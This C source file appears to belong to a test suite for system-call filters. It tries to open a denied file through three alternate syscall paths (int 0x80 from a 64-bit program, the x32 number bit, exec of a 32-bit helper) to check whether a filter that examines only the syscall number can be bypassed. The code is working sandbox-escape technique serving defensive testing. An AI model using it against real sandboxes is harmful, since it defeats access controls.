/*
 * Opens the denied file by the numbers of another table of system calls. A filter that looks at the
 * number alone takes them for other calls.
 *
 *     int80  the 32-bit entry, from a 64-bit program
 *     x32    the table of x32, by a bit in the number
 *     i386   a 32-bit program, executed
 */
#include "bypass.h"

#include <sys/mman.h>

enum { I386_OPEN = 5, X32_BIT = 0x40000000 };

static void absent(int number)
{
    (void)number;
    _exit(ABSENT);
}

static enum outcome int80(void)
{
    long result = I386_OPEN;
    char *low = mmap(NULL, PATH_MAX, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT,
                     -1, 0);

    if (low == MAP_FAILED)
        return OTHER;
    strcpy(low, attack_path("files/secret-D"));
    /* Without this entry the instruction is a fault. */
    signal(SIGSEGV, absent);
    asm volatile("int $0x80"
                 : "+a"(result)
                 : "b"((uint32_t)(uintptr_t)low), "c"(O_RDONLY), "d"(0)
                 : "memory", "r8", "r9", "r10", "r11");
    if (result < 0) {
        errno = (int)-result;
        return errno == ENOSYS ? ABSENT : outcome_of_error(errno);
    }
    return outcome_of_open((int)result);
}

static enum outcome x32(void)
{
    long result = syscall(X32_BIT | SYS_open, attack_path("files/secret-D"), O_RDONLY, 0);

    if (result < 0 && errno == ENOSYS)
        return ABSENT;
    return outcome_of_open((int)result);
}

static enum outcome i386(void)
{
    execl(attack_path("programs/bypass_i386"), "bypass_i386", attack_path("files/secret-D"), NULL);
    return errno == ENOEXEC ? ABSENT : outcome_of_error(errno);
}

int main(int argc, char **argv)
{
    static const struct way ways[] = {{"int80", int80}, {"x32", x32}, {"i386", i386}};

    attack_begin(argc, argv);
    return TRY_WAYS(ways);
}
